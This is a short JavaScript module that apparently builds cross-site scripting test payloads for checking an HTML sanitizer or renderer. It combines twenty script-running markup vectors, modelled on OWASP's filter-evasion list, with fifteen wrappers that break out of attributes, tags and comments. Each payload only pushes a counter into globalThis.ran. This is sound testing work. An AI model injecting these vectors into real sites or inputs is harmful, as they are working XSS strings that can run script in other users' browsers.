// Attacks on a page that would show a text as markup: each would run script that counts itself in `globalThis.ran`.
// The ways in are those of OWASP's cheat sheet on filter evasion, written anew for this mark.

/** What runs; the number says which attack it was. */
const mark = (n) => `(globalThis.ran=globalThis.ran||[]).push(${n})`;

/** Markup that runs script when a text is taken as HTML. */
const VECTORS = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<iframe srcdoc="<script>parent.${js.replace('globalThis', 'window')}</script>"></iframe>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<template><script>${js}</script></template><script>${js}</script>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<body onpageshow="${js}">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `[x](javascript:${js}) ![x](x"onerror="${js})`,
  (js) => `<https://a"onmouseover="${js}">`,
  (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\`\n<script>${js}</script>`,
  (js) => `| a | <img src=x onerror="${js}"> |\n|---|---|\n| b | c |`,
];

/** What ends the place that the text stands in: an attribute, an element, a script, a comment, a URL. */
const WRAPS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></style></textarea></script>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => `\\u003c/script>${text}`,
  (text) => `" autofocus onfocus="${text.replaceAll('"', "'")}`,
  (text) => `javascript:/*--></title></style></textarea></script>${text}`,
  (text) => `\u2028${text}\u202e`,
  (text) => text.replaceAll('<', '\uff1c<').replaceAll('on', 'oN'),
  (text) => `&lt;${text}&#x3C;script&#x3E;`,
  (text) => `{{constructor.constructor('${text.length}')()}}${text}`,
  (text) => `\${${text.length}}${text}`,
  (text) => `%3Cscript%3E${text}`,
];

/** `count` attacks, spread evenly over all ways in and all places. */
export function payloads(count) {
  const all = [];
  for (let n = 0; n < VECTORS.length * WRAPS.length; n += 1) {
    const vector = VECTORS[n % VECTORS.length];
    const wrap = WRAPS[(n + Math.floor(n / VECTORS.length)) % WRAPS.length];
    all.push(wrap(vector(mark(n))));
  }
  return all.slice(0, count);
}
